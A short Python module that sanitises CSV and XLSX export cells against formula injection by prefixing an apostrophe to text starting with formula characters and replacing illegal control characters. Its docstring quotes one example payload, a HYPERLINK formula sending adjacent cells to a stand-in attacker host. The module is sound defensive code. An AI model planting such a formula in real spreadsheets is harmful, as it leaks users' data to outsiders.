"""Cells of the CSV and XLSX files the platform hands out (exports, open data, reports).

A text cell that starts with = + - @ (or a tab or carriage return before one) is run as a formula
by Excel, LibreOffice and Numbers when the file is opened: a donor named
`=HYPERLINK("http://evil.example/?"&A1)` would send the neighbouring cells away. Such text is
written with a leading apostrophe, as OWASP advises for CSV injection; numbers stay numbers.

An XLSX cell cannot hold most ASCII control characters (openpyxl refuses the whole file), yet a
donor may type one into a form: in a workbook each becomes U+FFFD, the replacement character.
"""

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_text(value, *, xlsx: bool = False):
    """`value` as a spreadsheet cell that is never run as a formula."""
    if not isinstance(value, str):
        return value
    if xlsx:
        value = ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
    if value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def spreadsheet_row(values, *, xlsx: bool = False) -> list:
    return [spreadsheet_text(value, xlsx=xlsx) for value in values]
